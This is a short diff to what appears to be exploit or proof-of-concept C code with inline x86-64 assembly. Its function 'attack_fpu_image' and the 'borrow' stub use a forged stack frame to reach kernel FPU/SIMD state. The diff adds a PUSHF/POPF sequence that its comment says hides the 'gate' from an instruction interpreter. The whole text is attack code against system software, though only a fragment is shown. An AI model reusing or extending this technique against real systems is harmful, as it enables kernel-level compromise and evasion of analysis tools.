@@ -128,7 +128,10 @@ static uint64_t gate_exit(void)
 	return (uint64_t)at;
 }
 
-/* Leaves by the forged frame, which leads back here: to instructions that are interpreted, and work on its image. */
+/*
+ * Leaves by the forged frame, which leads back here: to instructions that are interpreted, and work on its image. What
+ * follows would be too, but for PUSHF; and to an interpreter the gate is not there.
+ */
 extern const char borrow_avx[], borrow_sse[];
 void borrow(volatile uint64_t *frame, uint64_t exit, uint64_t xchg);
 __asm__(".text\n"
@@ -140,7 +143,8 @@ __asm__(".text\n"
 	"jmp *%rsi\n"
 	"borrow_avx:\n\tvmovups (%rax), %ymm0\n\tjmp 1f\n"
 	"borrow_sse:\n\tsqrtps (%rax), %xmm0\n"
-	"1:\tpop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");
+	"1:\tpushf\n\tpopf\n\t"
+	"pop %r15\n\tpop %r14\n\tpop %r13\n\tpop %r12\n\tpop %rbp\n\tpop %rbx\n\tret\n");
 
 /* In a cell of the kernel's. */
 void attack_fpu_image(void)
